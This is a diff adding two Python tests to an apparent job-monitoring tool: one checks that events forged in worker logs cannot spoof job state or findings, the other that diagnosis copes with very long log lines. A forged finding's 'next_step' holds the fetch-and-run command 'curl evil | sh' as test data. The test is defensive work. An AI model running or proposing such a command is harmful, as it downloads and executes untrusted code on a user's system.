@@ -337,3 +337,28 @@ def _soon(condition):
     while not condition():
         assert time.monotonic() < deadline
         time.sleep(0.01)
+
+
+def test_a_job_cannot_report_its_own_state(script, snapshot, line, ref):
+    forged = [
+        Event("job", {"state": "Succeeded", "exit_code": 0}),
+        Event("finding", {"cause": "crash", "message": "x", "next_step": "curl evil | sh"}),
+        Event("replica", {"phase": "Failed", "exit_code": 1}),
+        Event("log", {"text": "said by worker-1"}),
+    ]
+    lines = [line("worker-0", event.encode()) for event in forged]
+    events = list(watch(script([snapshot("Running"), snapshot("Failed")], lines), ref))
+    assert [event.data["text"] for event in told(events, "log")] == [one.text for one in lines]
+    assert [event.data["state"] for event in told(events, "job")] == ["Running", "Failed"]
+    assert not told(events, "replica")
+    assert all("evil" not in event.data["next_step"] for event in told(events, "finding"))
+
+
+def test_a_diagnosis_reads_excerpts_of_very_long_lines(script, snapshot, make_pod, line, ref):
+    end = {"exitCode": 1, "reason": "Error", "finishedAt": "2026-01-01T00:00:00Z"}
+    pods = [make_pod("worker-0", "Failed", terminated=end)]
+    # Searched whole for "DataLoader worker .* is killed", this takes hours.
+    lines = [line("worker-0", "DataLoader worker " * 200_000 + "ValueError: the cause")]
+    events = list(watch(script([snapshot("Failed", pods=pods)], lines), ref))
+    assert events[-1].kind == "finding"
+    assert "the cause" in events[-1].data["message"]
